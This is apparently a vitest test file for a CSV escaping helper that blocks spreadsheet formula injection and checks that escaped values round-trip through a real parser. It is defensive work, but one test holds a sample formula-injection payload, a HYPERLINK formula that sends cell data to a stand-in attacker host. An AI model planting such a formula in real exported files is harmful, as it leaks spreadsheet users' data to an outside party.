import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvField, csvFieldValue } from "./csv-cell";

const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"];
/** What a spreadsheet or csv-parse reads back from one field. */
const readBack = (field: string) => (parse(`${field}\n`, { relax_quotes: false }) as string[][])[0]![0]!;

describe("csvField", () => {
  it("leaves plain values alone and quotes only commas, quotes and line breaks", () => {
    expect(csvField("")).toBe("");
    expect(csvField("plain")).toBe("plain");
    expect(csvField("2")).toBe("2");
    expect(csvField("a, b")).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect(csvField("x=1")).toBe("x=1");
    expect(csvField("a-b")).toBe("a-b");
    expect(csvField("e@mail")).toBe("e@mail");
    expect(csvField(" =1")).toBe(" =1");
    expect(csvField("'quoted'")).toBe("'quoted'");
    expect(csvField("'")).toBe("'");
  });

  it.each(FORMULA_STARTS)("puts an apostrophe, inside quotes, before a cell starting with %j", (start) => {
    expect(csvField(`${start}1`)).toBe(`"'${start}1"`);
    expect(csvField(start)).toBe(`"'${start}"`);
  });

  it("neutralises the classic payloads", () => {
    expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"Click")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"',
    );
    expect(csvField("+1+1")).toBe(`"'+1+1"`);
    expect(csvField("-2")).toBe(`"'-2"`);
    expect(csvField("@SUM(1)")).toBe(`"'@SUM(1)"`);
    expect(csvField("=1,2")).toBe(`"'=1,2"`);
    expect(csvField("-\n2")).toBe(`"'-\n2"`);
  });

  it("gives one more apostrophe to a value whose apostrophes come before a formula character", () => {
    expect(csvField("'=1")).toBe(`"''=1"`);
    expect(csvField("''-2")).toBe(`"'''-2"`);
  });

  it("never writes a field a spreadsheet would start a formula with", () => {
    const values = ["", "a", "'", "''", " ", "=", "-2", "'=1", "''+", "\t=1", "\r", "@", "x,y", '"', '="a"', "-\n"];
    for (const value of values) {
      const cell = readBack(csvField(value));
      expect(FORMULA_STARTS.includes(cell[0] ?? ""), `${JSON.stringify(value)} → ${JSON.stringify(cell)}`).toBe(false);
    }
  });
});

describe("csvFieldValue", () => {
  it("takes off only the apostrophe csvField added", () => {
    expect(csvFieldValue("'=1")).toBe("=1");
    expect(csvFieldValue("'-2")).toBe("-2");
    expect(csvFieldValue("''=1")).toBe("'=1");
    expect(csvFieldValue("'\t")).toBe("\t");
    expect(csvFieldValue("'quoted'")).toBe("'quoted'");
    expect(csvFieldValue("'")).toBe("'");
    expect(csvFieldValue("''")).toBe("''");
    expect(csvFieldValue("-2")).toBe("-2");
    expect(csvFieldValue("=1")).toBe("=1");
    expect(csvFieldValue("")).toBe("");
    expect(csvFieldValue("it's -2")).toBe("it's -2");
  });

  it("reads back every value exactly as it was written, through a real CSV parser", () => {
    const pieces = ["", "'", "''", "=", "+", "-", "@", "\t", "\r", "a", " ", ",", '"', "\n", "1"];
    for (const a of pieces) {
      for (const b of pieces) {
        for (const c of ["", "x", "'", "="]) {
          const value = a + b + c;
          expect(csvFieldValue(readBack(csvField(value))), JSON.stringify(value)).toBe(value);
        }
      }
    }
  });
});
